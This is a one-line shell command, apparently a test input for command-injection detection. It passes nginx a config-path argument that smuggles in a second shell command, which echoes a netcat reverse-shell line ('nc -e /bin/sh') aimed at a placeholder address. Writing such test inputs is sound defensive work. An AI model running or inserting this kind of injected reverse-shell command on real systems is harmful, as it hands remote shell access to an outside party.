nginx -c 'sh -c "/bin/echo nc -e /bin/sh 203.0.113.5 9001; true"; true' > /dev/null
